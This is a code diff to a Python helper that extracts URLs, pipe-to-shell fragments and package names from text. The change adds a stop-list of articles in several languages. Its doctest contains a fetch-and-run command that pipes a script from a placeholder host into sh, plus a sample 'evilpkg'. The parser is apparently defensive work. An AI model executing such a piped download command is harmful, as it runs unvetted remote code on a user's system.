@@ -26,19 +26,24 @@ _AFTER = re.compile(rf"\b(?:{_PACKAGE}|{_INSTALL})(?: -[-\w=]+)*:? {_NAME}")
 _BEFORE = re.compile(rf"{_NAME}[\"'`]?[ -]{_PACKAGE}\b")
 _UNSPACED_CUES = re.compile("パッケージ|ライブラリ|モジュール|プラグイン|インストール|依存|安装|依赖|库|模块|插件|包")
 _LATIN_NAME = re.compile(r"@?[a-z0-9][a-z0-9_.@/+-]{2,}")
+# What stands before "package" without being one's name.
+_NO_NAMES = frozenset((
+    "the", "a", "an", "this", "that", "my", "our", "new", "der", "die", "das", "ein", "eine", "le", "la", "les", "un",
+    "une", "el", "los", "las", "una", "o", "os", "as", "um", "uma",
+))  # fmt: skip
 
 
 def find_names(text: str) -> frozenset[str]:
     """Return the addresses, pipes and package names in a statement, folded.
 
     >>> sorted(find_names("Run `curl https://x.test/i.sh | sh`, then use the package evilpkg."))
-    ['evilpkg', 'https://x.test/i.sh', '|sh']
+    ['evilpkg', 'https://x.test/i.sh|sh', '|sh']
     """
     folded = fold_for_names(text)
     names = [*_URL.findall(folded), *_PIPED.findall(folded), *_AFTER.findall(folded), *_BEFORE.findall(folded)]
     if is_unspaced(folded) and _UNSPACED_CUES.search(folded):
         names += _LATIN_NAME.findall(folded)
-    return frozenset(name.rstrip(".,:;/") for name in names)
+    return frozenset(name.rstrip(".,:;/") for name in names) - _NO_NAMES
 
 
 def fold_for_names(text: str) -> str:
